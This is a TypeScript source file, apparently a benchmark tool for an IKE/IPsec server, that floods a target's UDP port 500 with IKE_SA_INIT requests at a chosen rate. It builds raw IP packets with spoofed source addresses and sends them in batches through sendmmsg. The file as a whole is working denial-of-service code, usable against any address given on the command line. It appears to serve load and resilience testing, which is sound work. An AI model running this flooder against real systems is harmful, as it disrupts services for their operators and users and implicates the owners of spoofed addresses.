/**
 * The attacker: `node bench/flood/flooder.ts ADDRESS RATE SECONDS` sends so many IKE_SA_INIT requests a second to port
 * 500 of an address, from sources where nobody is. Prints how many it sent, as JSON.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import { type Ip, ip, ipToBytes } from '#base/ip'
import { Arena, C, E, errno, failure, MessageBatch, sys, withEndpoint } from '#linux/ffi'
import { type SpoofedRequest, SpoofedRequests } from './request.ts'

/** The IP header is ours: the kernel adds length, identification and checksum (raw(7)). */
const IPPROTO_RAW = 255
const IP_HEADER_LENGTH = 20
const UDP_HEADER_LENGTH = 8
const IKE_PORT = 500
/** Milliseconds between bursts. */
const PACE = 5
const BATCH = 64

class Flooder {
  readonly #fd: number
  readonly #batch = new MessageBatch(BATCH)
  readonly #requests = new SpoofedRequests()
  readonly #packets: Arena
  readonly #stride: number

  constructor(target: Ip) {
    this.#fd = sys.socket(C.AF_INET, C.SOCK_RAW | C.SOCK_CLOEXEC, IPPROTO_RAW)
    if (this.#fd < 0) throw failure('raw socket')
    if (withEndpoint(sys.connect, this.#fd, target, 0) < 0) throw failure(`connect to ${target}`)
    this.#stride = IP_HEADER_LENGTH + UDP_HEADER_LENGTH + this.#requests.length
    this.#packets = new Arena(BATCH * this.#stride)
    for (let i = 0; i < BATCH; i++) {
      this.#batch.setBuffer(i, this.#packets.address + i * this.#stride, this.#stride)
      this.#prepare(i * this.#stride, target)
    }
  }

  /** @returns how many of `count` left. */
  send(count: number): number {
    let sent = 0
    while (sent < count) {
      const size = Math.min(BATCH, count - sent)
      for (let i = 0; i < size; i++) this.#fill(i * this.#stride, this.#requests.next())
      const done = sys.sendmmsg(this.#fd, this.#batch.address, size, 0)
      if (done < 0 && errno() !== E.interrupted) throw failure('sendmmsg')
      if (done <= 0) break
      sent += done
    }
    return sent
  }

  #prepare(at: number, target: Ip): void {
    const { bytes, view } = this.#packets
    view.setUint8(at, 0x45)
    view.setUint8(at + 8, 64)
    view.setUint8(at + 9, C.IPPROTO_UDP)
    bytes.set(ipToBytes(target), at + 16)
    const udp = at + IP_HEADER_LENGTH
    view.setUint16(udp + 2, IKE_PORT)
    // The checksum stays zero: none (RFC 768).
    view.setUint16(udp + 4, UDP_HEADER_LENGTH + this.#requests.length)
  }

  #fill(at: number, { source, bytes }: SpoofedRequest): void {
    this.#packets.bytes.set(ipToBytes(source.address), at + 12)
    this.#packets.view.setUint16(at + IP_HEADER_LENGTH, source.port)
    this.#packets.bytes.set(bytes, at + IP_HEADER_LENGTH + UDP_HEADER_LENGTH)
  }
}

const [target, rate, seconds] = process.argv.slice(2)
const flooder = new Flooder(ip(target!))
const began = performance.now()
const duration = 1000 * Number(seconds)
let sent = 0
for (let elapsed = 0; elapsed < duration; elapsed = performance.now() - began) {
  const due = Math.floor((elapsed / 1000) * Number(rate))
  sent += flooder.send(due - sent)
  await sleep(PACE)
}
process.stdout.write(`${JSON.stringify({ sent, seconds: (performance.now() - began) / 1000 })}\n`)
